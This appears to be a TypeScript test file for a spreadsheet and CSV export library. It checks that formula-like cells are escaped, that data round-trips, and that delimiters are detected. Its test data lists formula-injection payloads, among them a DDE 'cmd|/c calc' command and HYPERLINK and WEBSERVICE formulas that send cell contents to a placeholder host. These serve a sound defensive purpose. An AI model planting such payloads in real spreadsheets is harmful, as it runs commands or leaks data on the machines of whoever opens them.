import fc from 'fast-check'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { plainCell, readTable, safeCell, writeCsvTable, writeTable } from './index.ts'
import { readCsvTable } from './read/csv.ts'

const utf8 = new TextDecoder('utf-8', { ignoreBOM: true })
// The values of CWE-1236 and ASVS 5.0.0 V1.2.10, and those of East Asian spreadsheets.
const dangerous = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\0=1',
  '＝1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://x/?"&A1,"点击")',
  '=WEBSERVICE("http://x")',
  "-2+3+cmd|' /C calc'!A0",
]

describe('a cell that would be a formula', () => {
  test.each(dangerous)('%j is written with a quote before it, in quotes where it needs them', value => {
    const csv = utf8.decode(writeCsvTable([[value]]))
    expect(csv).toMatch(/^\uFEFF"?'/)
    expect(safeCell(value)).toBe(`'${value}`)
  })

  test.each(['"=1+1"', 'a,b\n=1+1'])('%j stays inside its quotes', value => {
    expect(utf8.decode(writeCsvTable([[value]]))).toBe(`\uFEFF"${value.replaceAll('"', '""')}"\r\n`)
  })

  test('is no number: a negative one stays a number', async () => {
    expect(utf8.decode(writeCsvTable([[-3.5, Number.NaN, null]]))).toBe('\uFEFF-3.5,,\r\n')
    const table = await readTable(await writeTable([{ name: '表', rows: [[-3.5]] }]), 'a.xlsx')
    expect(table.sheets[0]?.rows).toEqual([['-3.5']])
  })

  test('comes back as it was, however many quotes it had', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("'", '=', '-', '甲', ' ', '＝', '\t') }), text => {
        expect(plainCell(safeCell(text))).toBe(text)
        expect(safeCell(text)).not.toMatch(/^[=+\-@\t\r\0＝＋－＠]/)
      }),
    )
  })
})

describe('what is exported', () => {
  const rows = [
    ['名称', '说明', '数'],
    ['南通', '第一行\n第二行, "引"', 7],
    ['=1+1', "'已有", -2],
    [' 前后空格 ', '', 0.1],
    ['_x0041_', '_x005F_x003D_1+1 _X000a_', 1],
  ]
  const printed = rows.map(row => row.map(String))

  test('as CSV is what is imported', async () => {
    expect((await readTable(writeCsvTable(rows), 'a.csv')).sheets[0]?.rows).toEqual(printed)
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 4 }), { minLength: 1 }),
        given => {
          const sound = given.map(row => ['x', ...row.map(cell => cell.toWellFormed().replaceAll('\0', ''))])
          expect(readCsvTable(writeCsvTable(sound), 'a.csv').sheets[0]?.rows).toEqual(sound)
        },
      ),
    )
  })

  test('as a workbook is what is imported', async () => {
    const table = await readTable(
      await writeTable([
        { name: '一', rows },
        { name: '二', rows: [['甲']] },
      ]),
      'a.xlsx',
    )
    expect(table.sheets.map(({ name }) => name)).toEqual(['一', '二'])
    expect(table.sheets[0]?.rows).toEqual(printed)
  })

  test('offers the values of a column, which changes no cell', async () => {
    const choices = [{ column: 1, values: ['A', 'B'], rows: 9, title: '答案', message: '写字母' }]
    const bytes = await writeTable([
      {
        name: '一',
        rows: [
          ['题', '答案'],
          ['问', 'C'],
        ],
        choices,
      },
    ])
    const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
    expect(sheet).toMatch(/<dataValidation [^>]*type="list"[^>]*sqref="B2:B10"/)
    expect(sheet).toContain('<formula1>"A,B"</formula1>')
    expect((await readTable(bytes, 'a.xlsx')).sheets[0]?.rows).toEqual([
      ['题', '答案'],
      ['问', 'C'],
    ])
    const [first] = choices
    if (!first) throw new Error('no choices')
    await expect(writeTable([{ name: '一', rows: [], choices: [{ ...first, values: ['a,b'] }] }])).rejects.toThrow(
      'no comma',
    )
  })

  test('of text that no workbook can hold is still a workbook', async () => {
    const table = await readTable(
      await writeTable([{ name: '一', rows: [['a\u0001b\ud800', '字'.repeat(40_000)]] }]),
      'a.xlsx',
    )
    expect(table.sheets[0]?.rows[0]?.[0]).toBe('a\ufffdb\ufffd')
    expect(table.sheets[0]?.rows[0]?.[1]).toHaveLength(32_767)
  })
})

describe('a table file', () => {
  test.each([
    ['甲\t乙\n1\t2', 'a.tsv'],
    ['甲,乙\n1,2', 'a.csv'],
    ['甲;乙\n1;2', 'a.csv'],
  ])('%j is read by its own delimiter', async (text, name) => {
    expect((await readTable(new TextEncoder().encode(text), name)).sheets[0]?.rows).toEqual([
      ['甲', '乙'],
      ['1', '2'],
    ])
  })

  test('keeps the row numbers of the file, and leading zeros', async () => {
    const table = await readTable(new TextEncoder().encode('代码,名\r\n\r\n007,甲\r\n'), 'a.csv')
    expect(table.sheets[0]).toEqual({
      name: '',
      rows: [
        ['代码', '名'],
        ['007', '甲'],
      ],
      at: [1, 3],
    })
  })

  test('is asked for, and a text is none', async () => {
    await expect(readTable(new TextEncoder().encode('甲'), 'a.txt')).rejects.toMatchObject({
      code: 'files.not-a-table',
      params: { type: 'txt' },
    })
  })
})
